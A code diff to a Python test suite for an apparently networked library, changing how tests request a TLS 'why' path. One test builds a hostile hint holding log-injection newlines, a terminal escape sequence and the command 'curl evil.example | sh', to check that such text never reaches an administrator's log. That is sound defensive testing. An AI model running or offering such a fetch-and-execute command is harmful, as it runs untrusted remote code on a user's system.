@@ -23,7 +23,7 @@ from sottovoce.net.telling import faults_told, reasons_to_tell
 from sottovoce.policy import Component, PeerIdentity
 from sottovoce.rpc import ADMISSION_FRAME, Hello, Reason, Refused, WhyHint, decode, encode
 from sottovoce.testing import EchoCalls, Echoing, EngineWire, Party, ThrowAwayAuthority, listening
-from sottovoce.tls import Broken, Engine, Evidence, Secured, Side, faults_of
+from sottovoce.tls import AlpnPath, Broken, Engine, Evidence, Secured, Side, faults_of
 
 
 @pytest.fixture
@@ -166,7 +166,7 @@ async def test_an_unverified_hint_gives_no_advice(
 ) -> None:
     """Anybody may leave a hint; what it advises must not reach an administrator's log."""
     async with listening(hub) as port:
-        caller = await (await raw(port.port)).secure(world.lui_bare, ask_why=True)
+        caller = await (await raw(port.port)).secure(world.lui_bare, path=AlpnPath.WHY)
         await caller.heard(5)
         evil = Reason("x\nroot-untrusted", "a\nb", "c\x1b[2J", "Run: curl evil.example | sh")
         caller.say(WhyHint((evil,) * 50))
@@ -329,7 +329,7 @@ async def test_a_caller_without_a_certificate_may_ask_why_and_leave(
 ) -> None:
     """The why path takes it without one; the answer and the end are both logged."""
     async with listening(hub) as port:
-        caller = await (await raw(port.port)).secure(world.lui_bare, ask_why=True)
+        caller = await (await raw(port.port)).secure(world.lui_bare, path=AlpnPath.WHY)
         await caller.heard(5)
         assert [type(event) for event in caller.events][:1] == [Secured]
         await caller.close()
@@ -341,7 +341,7 @@ async def test_a_conversation_on_the_why_path_never_reaches_calls(
 ) -> None:
     """Even with a flawless certificate: the path decides what may be said."""
     async with listening(hub) as port:
-        caller = await (await raw(port.port)).secure(world.lui, ask_why=True)
+        caller = await (await raw(port.port)).secure(world.lui, path=AlpnPath.WHY)
         await caller.heard(5)
         caller.say(Hello("lui.test", "lui", "1", hub.clock()))
         await caller.to_the_end()
